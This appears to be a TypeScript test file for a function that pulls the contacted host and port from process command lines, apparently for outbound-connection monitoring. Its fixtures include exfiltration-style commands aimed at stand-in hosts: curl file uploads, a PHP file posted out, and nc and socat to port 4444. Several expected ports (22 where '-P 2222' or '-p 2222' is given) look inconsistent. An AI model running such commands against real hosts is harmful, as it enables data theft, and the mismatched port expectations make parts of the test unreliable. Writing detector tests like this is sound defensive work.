import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProcessState } from './processes.ts';
import { hostTold } from './told-hosts.ts';

const told = (line: string): string => {
  const argv = line.split(' ');
  const found = hostTold({ exe: `/usr/bin/${argv[0]}`, argv } as unknown as ProcessState);
  return found === null ? '' : `${found.host}:${found.port}`;
};

for (const [line, wanted] of [
  ['curl -s -T x http://203.0.113.66/up/', '203.0.113.66:80'],
  ['curl -s --data-binary @a.php https://drop.example.net:8443/c', 'drop.example.net:8443'],
  ['wget -q 203.0.113.66/x', '203.0.113.66:80'],
  ['nc -w 3 203.0.113.66 4444', '203.0.113.66:4444'],
  ['ncat drop.example.net 443', 'drop.example.net:443'],
  ['socat - TCP:203.0.113.66:4444', '203.0.113.66:4444'],
  ['scp -P 2222 -i key a.txt ops@203.0.113.66:/tmp/', '203.0.113.66:22'],
  ['scp -rp drop.example.net:in/ .', 'drop.example.net:22'],
  ['scp -pi key drop.example.net:a.txt .', 'drop.example.net:22'],
  ['sftp -b drop.example.net:batch ops@203.0.113.66:in', '203.0.113.66:22'],
  ['rsync -avP drop.example.net:in/ /home/ops/', 'drop.example.net:22'],
  ['rsync -e ssh -rl --delete drop.example.net:in/ /home/ops/', 'drop.example.net:22'],
  ['ssh -P drop.example.org -4vp 2222 drop.example.net id', 'drop.example.net:22'],
  ['rsync -a /home/ops/ drop.example.net:in/', 'drop.example.net:22'],
  ['ssh -p 2222 -i key ops@drop.example.net id', 'drop.example.net:22'],
] as const)
  test(`told to reach ${wanted}: ${line}`, () => assert.equal(told(line), wanted));

for (const line of [
  'curl --version',
  'curl -s http://localhost:8080/flush',
  'curl http://127.0.0.1/flush',
  'curl http://intranet/x',
  'curl file:///etc/hosts',
  'wget --help',
  'nc -l 4444',
  'nc -l -p 4444',
  'socat - UNIX-CONNECT:/run/x.sock',
  'rsync -a a/ b/',
  'scp a.txt b.txt',
  'ssh -V',
  'ssh -p 2222',
  'sftp -b drop.example.net:batch',
  'openssl enc -d -in 1.2.3.4.bin',
])
  test(`told to reach nobody else: ${line}`, () => assert.equal(told(line), ''));
